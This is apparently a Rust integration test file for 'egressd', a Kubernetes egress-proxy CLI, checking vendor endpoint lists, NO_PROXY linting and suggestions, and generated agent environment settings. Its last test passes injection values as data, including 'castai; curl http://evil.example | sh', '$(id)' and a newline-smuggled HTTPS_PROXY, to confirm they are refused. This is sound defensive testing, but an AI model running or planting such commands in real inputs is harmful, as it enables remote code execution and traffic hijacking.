//! The command line of the NO_PROXY, vendor and agent-environment tools: outputs and exit codes.

use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_egressd");

fn run(args: &[&str], env: &[(&str, &str)]) -> (Option<i32>, String, String) {
    let mut cmd = Command::new(BIN);
    cmd.args(args);
    for v in egressd::noproxy::env::VARIABLES {
        cmd.env_remove(v);
    }
    for (k, v) in env {
        cmd.env(k, v);
    }
    let Output {
        status,
        stdout,
        stderr,
    } = cmd.output().unwrap();
    (
        status.code(),
        String::from_utf8_lossy(&stdout).into_owned(),
        String::from_utf8_lossy(&stderr).into_owned(),
    )
}

#[test]
fn vendors_list_and_show() {
    let (code, out, _) = run(&["vendors"], &[]);
    assert_eq!(code, Some(0));
    for name in [
        "castai-us",
        "castai-eu",
        "cloudcasa",
        "cloudcasa-ui",
        "cloudcasa-self-hosted",
    ] {
        assert!(
            out.lines().any(|l| l.starts_with(&format!("{name}\t"))),
            "{name}: {out}"
        );
    }
    let (code, out, _) = run(&["vendors", "show", "castai-eu"], &[]);
    assert_eq!(code, Some(0));
    assert!(
        out.contains("castai-eu/kvisor\n  api-grpc.eu.cast.ai:443\n  kvisor.prod-eu.cast.ai:443\n"),
        "{out}"
    );
    let (code, out, _) = run(
        &[
            "vendors",
            "show",
            "cloudcasa-self-hosted",
            "--param",
            "server=cc.corp",
            "--param",
            "storage=minio.corp",
        ],
        &[],
    );
    assert_eq!(code, Some(0));
    assert!(
        out.contains("cloudcasa-self-hosted/server\n  cc.corp:443\n"),
        "{out}"
    );
    let (code, _, err) = run(&["vendors", "show", "nosuch"], &[]);
    assert_eq!(code, Some(2));
    assert!(err.contains("available: castai-us"), "{err}");
}

#[test]
fn noproxy_explain_lint_suggest() {
    let (code, out, _) = run(
        &[
            "noproxy",
            "explain",
            "--no-proxy",
            "*.cluster.local",
            "--client",
            "all",
            "http://a.ns.svc.cluster.local/",
        ],
        &[],
    );
    assert_eq!(code, Some(0));
    assert_eq!(
        out,
        "http://a.ns.svc.cluster.local/\tgo\tdirect\tentry \".cluster.local\"\n\
         http://a.ns.svc.cluster.local/\tcurl\tproxy\tno entry matches\n\
         http://a.ns.svc.cluster.local/\tpython-urllib\tproxy\tno entry matches\n\
         http://a.ns.svc.cluster.local/\tpython-requests\tproxy\tno entry matches\n"
    );
    let (code, _, err) = run(
        &[
            "noproxy",
            "explain",
            "--no-proxy",
            "x",
            "--client",
            "java",
            "http://a/",
        ],
        &[],
    );
    assert_eq!(code, Some(2), "{err}");

    let (code, out, _) = run(
        &[
            "noproxy",
            "lint",
            "--no-proxy",
            "localhost .svc",
            "--service-cidr",
            "10.96.0.0/12",
        ],
        &[],
    );
    assert_eq!(code, Some(1));
    assert!(out.contains("warning[space_separator]"), "{out}");
    assert!(
        out.contains("  fix: separate entries with commas: localhost,.svc"),
        "{out}"
    );
    assert!(out.contains("warning[api_server_ip]"), "{out}");

    let (code, suggested, _) = run(
        &[
            "noproxy",
            "suggest",
            "--pod-cidr",
            "10.244.0.0/16",
            "--service-cidr",
            "10.96.0.0/12",
        ],
        &[],
    );
    assert_eq!(code, Some(0));
    assert!(
        suggested
            .starts_with("localhost,127.0.0.1,::1,[::1],10.244.0.0/16,10.96.0.0/12,10.96.0.1,"),
        "{suggested}"
    );
    let (code, _, err) = run(
        &[
            "noproxy",
            "suggest",
            "--pod-cidr",
            "nope",
            "--service-cidr",
            "10.96.0.0/12",
        ],
        &[],
    );
    assert_eq!(code, Some(2));
    assert!(err.contains("is not a CIDR"), "{err}");
}

#[test]
fn noproxy_from_env_reads_both_cases() {
    let (code, out, _) = run(
        &[
            "noproxy",
            "from-env",
            "https://api.cast.ai/",
            "https://x.ns.svc/",
        ],
        &[
            ("HTTPS_PROXY", "http://egressd:3128"),
            ("https_proxy", "http://egressd:3128"),
            ("NO_PROXY", ".svc"),
            ("no_proxy", "localhost"),
        ],
    );
    assert_eq!(code, Some(0));
    assert!(
        out.contains("  NO_PROXY=\".svc\"\n  no_proxy=\"localhost\"\n"),
        "{out}"
    );
    assert!(out.contains("go:\n"), "{out}");
    assert!(
        out.contains("warning: NO_PROXY=\".svc\" and no_proxy=\"localhost\" differ"),
        "{out}"
    );
    // Go reads NO_PROXY (.svc), curl reads no_proxy (localhost): the same URL routes differently.
    let go = out.split("\ncurl:\n").next().unwrap();
    assert!(go.contains("https://x.ns.svc/\tdirect"), "{go}");
    let curl = out.split("\ncurl:\n").nth(1).unwrap();
    assert!(
        curl.contains("https://x.ns.svc/\tproxy http://egressd:3128 (from https_proxy)"),
        "{curl}"
    );
}

#[test]
fn agent_env_accepts_credentials_without_printing_them() {
    let (code, out, err) = run(
        &[
            "agent-env",
            "--proxy-url",
            "http://castai:Tok3nValue@egressd.egressd.svc:3128",
            "--vendor",
            "cloudcasa",
        ],
        &[],
    );
    assert_eq!(code, Some(0), "{err}");
    assert!(
        !out.contains("Tok3nValue") && !err.contains("Tok3nValue"),
        "{out}{err}"
    );
    assert!(
        out.contains(
            "\nHTTP_PROXY=http://castai:${EGRESSD_PROXY_PASSWORD}@egressd.egressd.svc:3128\n"
        ),
        "{out}"
    );
    assert!(
        out.contains("kubectl -n cloudcasa-io set env deployment --all --from=secret/egressd-proxy-credentials"),
        "{out}"
    );
    // A malformed URL with a password: refused, and the password is not echoed.
    let (code, out, err) = run(
        &[
            "agent-env",
            "--proxy-url",
            "http://castai:Tok3nValue@egressd.egressd.svc",
            "--vendor",
            "cloudcasa",
        ],
        &[],
    );
    assert_eq!(code, Some(2));
    assert!(
        !out.contains("Tok3nValue") && !err.contains("Tok3nValue"),
        "{out}{err}"
    );
    assert!(err.contains("port"), "{err}");
}

#[test]
fn agent_env_for_castai_and_errors() {
    let (code, out, _) = run(
        &[
            "agent-env",
            "--proxy-url",
            "http://egressd.egressd.svc:3128",
            "--vendor",
            "castai-us",
            "--pod-cidr",
            "10.244.0.0/16",
            "--service-cidr",
            "10.96.0.0/12",
            "--namespace",
            "castai-agent",
        ],
        &[],
    );
    assert_eq!(code, Some(0));
    assert!(
        out.contains("\nHTTPS_PROXY=http://egressd.egressd.svc:3128\n"),
        "{out}"
    );
    assert!(out.contains("\nno_proxy=localhost,127.0.0.1,"), "{out}");
    assert!(
        out.contains("kubectl -n castai-agent set env deployment/castai-agent "),
        "{out}"
    );

    // An https:// URL points agents at the TLS listener; the output says they must trust its certificate.
    let (code, out, _) = run(
        &[
            "agent-env",
            "--proxy-url",
            "https://egressd:3129",
            "--vendor",
            "castai-us",
        ],
        &[],
    );
    assert_eq!(code, Some(0));
    assert!(out.contains("HTTPS_PROXY=https://egressd:3129"), "{out}");
    assert!(out.contains("trust its"), "{out}");
    let (code, _, err) = run(
        &[
            "agent-env",
            "--proxy-url",
            "egressd:3128",
            "--vendor",
            "castai-us",
        ],
        &[],
    );
    assert_eq!(code, Some(2));
    assert!(err.contains("http://host:port"), "{err}");
    let (code, _, err) = run(
        &[
            "agent-env",
            "--proxy-url",
            "http://e:3128",
            "--vendor",
            "nosuch",
        ],
        &[],
    );
    assert_eq!(code, Some(2));
    assert!(err.contains("not a vendor profile"), "{err}");
}

#[test]
fn validate_prints_the_path_warning() {
    let (code, out, err) = run(&["validate"], &[]);
    assert_eq!(code, Some(0), "{err}");
    assert!(out.contains("configuration is valid"), "{out}");
    assert!(
        err.contains("warning: rule castai-us/node-components"),
        "{err}"
    );
}

#[test]
fn vendors_from_the_environment() {
    let (code, out, err) = run(
        &["check", "api.eu.cast.ai:443", "home.cloudcasa.io:443"],
        &[("EGRESSD_VENDORS", "castai-eu,cloudcasa-ui")],
    );
    assert_eq!(code, Some(0), "{out}{err}");
    assert!(
        out.contains("rule=castai-eu/api") && out.contains("rule=cloudcasa-ui/web"),
        "{out}"
    );
    let (code, out, _) = run(
        &["check", "castai.github.io:443"],
        &[("EGRESSD_VENDORS_DISABLE", "castai-us/helm")],
    );
    assert_eq!(code, Some(1), "{out}");
    // Exceptions to the address check, comma-separated: 10.20.0.5 is then allowed, 10.30.0.5 still refused.
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("egressd.yaml");
    std::fs::write(&cfg, "allow: [{name: internal, hosts: [\"10.0.0.0/8\"]}]\n").unwrap();
    let cfg = cfg.to_str().unwrap();
    let cidrs = [(
        "EGRESSD_DESTINATIONS__ALLOW_CIDRS",
        "10.20.0.0/16,fd00:20::/64",
    )];
    let (code, out, _) = run(
        &["check", "--config", cfg, "--resolve", "10.20.0.5:443"],
        &cidrs,
    );
    assert_eq!(code, Some(0), "{out}");
    let (code, out, _) = run(
        &["check", "--config", cfg, "--resolve", "10.30.0.5:443"],
        &cidrs,
    );
    assert!(out.contains("denied_private_address"), "{code:?} {out}");
}

#[test]
fn agent_env_refuses_shell_text_in_namespace_and_cluster_domain() {
    let base = [
        "agent-env",
        "--proxy-url",
        "http://egressd:3128",
        "--vendor",
        "castai-us",
    ];
    for (flag, value) in [
        ("--namespace", "castai; curl http://evil.example | sh"),
        ("--namespace", "$(id)"),
        ("--cluster-domain", "cluster.local,.evil.example"),
        (
            "--cluster-domain",
            "cluster.local\nHTTPS_PROXY=http://evil.example:3128",
        ),
    ] {
        let mut args = base.to_vec();
        args.extend([flag, value]);
        let (code, out, err) = run(&args, &[]);
        assert_eq!(code, Some(2), "{flag} {value:?}: {out}");
        assert!(out.is_empty(), "nothing is printed: {out}");
        assert!(err.contains(flag), "{err}");
    }
    let (code, _, err) = run(
        &[
            "noproxy",
            "suggest",
            "--pod-cidr",
            "10.244.0.0/16",
            "--service-cidr",
            "10.96.0.0/12",
            "--cluster-domain",
            "cluster.local,evil.example",
        ],
        &[],
    );
    assert_eq!(code, Some(2), "{err}");
}
